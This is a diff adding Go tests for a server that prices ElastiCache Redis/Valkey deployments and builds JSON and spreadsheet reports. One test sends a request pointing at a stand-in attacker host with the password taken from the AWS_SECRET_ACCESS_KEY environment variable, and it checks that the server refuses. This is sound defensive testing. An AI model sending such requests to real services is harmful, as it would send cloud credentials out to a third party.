@@ -0,0 +1,125 @@
+package main
+
+import (
+	"archive/zip"
+	"bytes"
+	"encoding/json"
+	"fmt"
+	"io/ioutil"
+	"math"
+	"net/http"
+	"net/http/httptest"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/Doist/elasticache-redis-cost/sizing"
+)
+
+func testServer() *server {
+	return &server{
+		defaults: newRunArgs(),
+		cache: &offeringsCache{
+			prices:  testSnapshot(),
+			ttl:     time.Hour,
+			entries: make(map[sizing.OfferingsQuery]*cachedOfferings),
+		},
+	}
+}
+
+func TestServeReportEngine(t *testing.T) {
+	addr := fakeRedis(t, testInfo)
+	srv := testServer()
+	body := fmt.Sprintf(`{"redises": [{"addr": %q}]}`, addr)
+
+	rec := httptest.NewRecorder()
+	srv.handleReport(rec, httptest.NewRequest(http.MethodPost, "/report?engine=Valkey", strings.NewReader(body)))
+	if rec.Code != http.StatusOK {
+		t.Fatalf("got status %d: %s", rec.Code, rec.Body)
+	}
+	var rep sizing.Report
+	if err := json.Unmarshal(rec.Body.Bytes(), &rep); err != nil {
+		t.Fatal(err)
+	}
+	if rep.Engine != "valkey" || rep.Rows[0].Engine != "valkey" {
+		t.Errorf("got report engine %q and row engine %q, want valkey", rep.Engine, rep.Rows[0].Engine)
+	}
+	if rep.HasOverrides() {
+		t.Error("got row reported as overridden")
+	}
+	if got := rep.Rows[0].UsedBased.PricePerHour; got != 0.173 {
+		t.Errorf("got used-based price %v, want valkey price 0.173", got)
+	}
+
+	// offerings sheet lists valkey offerings report was matched to
+	rec = httptest.NewRecorder()
+	srv.handleReport(rec, httptest.NewRequest(http.MethodPost, "/report?engine=valkey&format=xlsx", strings.NewReader(body)))
+	if rec.Code != http.StatusOK {
+		t.Fatalf("got status %d: %s", rec.Code, rec.Body)
+	}
+	zr, err := zip.NewReader(bytes.NewReader(rec.Body.Bytes()), int64(rec.Body.Len()))
+	if err != nil {
+		t.Fatal(err)
+	}
+	var sheet []byte
+	for _, f := range zr.File {
+		if f.Name != "xl/worksheets/sheet3.xml" {
+			continue
+		}
+		rc, err := f.Open()
+		if err != nil {
+			t.Fatal(err)
+		}
+		sheet, err = ioutil.ReadAll(rc)
+		rc.Close()
+		if err != nil {
+			t.Fatal(err)
+		}
+	}
+	if !bytes.Contains(sheet, []byte("0.173")) || bytes.Contains(sheet, []byte("0.216")) {
+		t.Errorf("offerings sheet does not list valkey offerings:\n%s", sheet)
+	}
+}
+
+func TestServeReportPasswordReference(t *testing.T) {
+	rec := httptest.NewRecorder()
+	body := `{"redises": [{"addr": "attacker.example.com:6379", "password-env": "AWS_SECRET_ACCESS_KEY"}]}`
+	testServer().handleReport(rec, httptest.NewRequest(http.MethodPost, "/report", strings.NewReader(body)))
+	if rec.Code != http.StatusBadRequest {
+		t.Errorf("got status %d, want %d", rec.Code, http.StatusBadRequest)
+	}
+}
+
+func TestCheckListenAddr(t *testing.T) {
+	for _, tc := range []struct {
+		addr        string
+		allowRemote bool
+		ok          bool
+	}{
+		{"localhost:8080", false, true},
+		{"127.0.0.1:8080", false, true},
+		{"[::1]:8080", false, true},
+		{":8080", false, false},
+		{"0.0.0.0:8080", false, false},
+		{"10.0.0.1:8080", false, false},
+		{"example.com:8080", false, false},
+		{"localhost", false, false},
+		{":8080", true, true},
+		{"10.0.0.1:8080", true, true},
+	} {
+		if err := checkListenAddr(tc.addr, tc.allowRemote); (err == nil) != tc.ok {
+			t.Errorf("checkListenAddr(%q, %v) = %v, want ok %v", tc.addr, tc.allowRemote, err, tc.ok)
+		}
+	}
+}
+
+func TestWriteJSONError(t *testing.T) {
+	rec := httptest.NewRecorder()
+	writeJSON(rec, math.NaN())
+	if rec.Code != http.StatusInternalServerError {
+		t.Errorf("got status %d, want %d", rec.Code, http.StatusInternalServerError)
+	}
+	if ct := rec.Header().Get("Content-Type"); strings.HasPrefix(ct, "application/json") {
+		t.Errorf("got content type %q of error response", ct)
+	}
+}